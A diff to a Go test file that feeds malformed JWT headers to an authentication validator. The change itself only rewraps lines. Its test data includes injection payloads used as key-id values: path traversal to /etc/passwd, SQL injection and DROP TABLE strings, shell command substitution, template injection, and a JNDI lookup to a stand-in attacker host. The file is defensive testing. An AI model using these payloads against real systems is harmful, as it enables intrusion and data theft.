@@ -111,7 +111,8 @@ func (w *env) headerAttacks() []family {
 		{"compressed or encrypted content", auth.ReasonHeader, w.withHeaders(
 			object{"zip": "DEF"}, object{"zip": "none"}, object{"enc": "A256GCM"}, object{"enc": "A128CBC-HS256", "zip": "DEF"},
 		)},
-		{"a token in a token", auth.ReasonHeader, w.withHeaders(object{"cty": "JWT"}, object{"cty": "at+jwt"}, object{"cty": "application/json"})},
+		{"a token in a token", auth.ReasonHeader,
+			w.withHeaders(object{"cty": "JWT"}, object{"cty": "at+jwt"}, object{"cty": "application/json"})},
 		{"a token as payload", auth.ReasonMalformed, []string{
 			compact(w.t, w.header().text(w.t), w.token(nil, nil), w.officer),
 			compact(w.t, w.header().text(w.t), `"`+w.token(nil, nil)+`"`, w.officer),
@@ -120,10 +121,12 @@ func (w *env) headerAttacks() []family {
 		{"no type, or that of another token", auth.ReasonType, w.withHeaders(
 			object{"typ": nil}, object{"typ": "JWT"}, object{"typ": "jwt"}, object{"typ": ""}, object{"typ": null}, object{"typ": 1},
 			object{"typ": "id_token"}, object{"typ": "logout+jwt"}, object{"typ": "dpop+jwt"}, object{"typ": "rt+jwt"},
-			object{"typ": []string{"at+jwt"}}, object{"typ": "at+jwt "}, object{"typ": "at+\u212awt"}, object{"typ": "at+jwt;"}, object{"typ": "at+jwt\x00"},
+			object{"typ": []string{"at+jwt"}}, object{"typ": "at+jwt "}, object{"typ": "at+\u212awt"}, object{"typ": "at+jwt;"},
+			object{"typ": "at+jwt\x00"},
 		)},
 		{"no key id", auth.ReasonKeyUnknown, w.withHeaders(values("kid", nil, "", null, 1, []string{"police-1"}, object{"kid": "police-1"})...)},
-		{"a made-up key id", auth.ReasonKeyUnknown, w.withHeaders(values("kid", "police-2", "POLICE-1", "police-1 ", " police-1", "health-1", "police-1\x00", "police-rsa")...)},
+		{"a made-up key id", auth.ReasonKeyUnknown,
+			w.withHeaders(values("kid", "police-2", "POLICE-1", "police-1 ", " police-1", "health-1", "police-1\x00", "police-rsa")...)},
 		{"a key id that wants to be run", auth.ReasonKeyUnknown, w.withHeaders(values("kid",
 			"../../../../dev/null", "/etc/passwd", "police-1' OR '1'='1", "x' UNION SELECT 'key'--", "police-1; DROP TABLE keys",
 			"https://evil.example/keys", "$(id)", "`id`", "%00", "..\\..\\windows\\win.ini", "{{7*7}}", "${jndi:ldap://evil.example}",
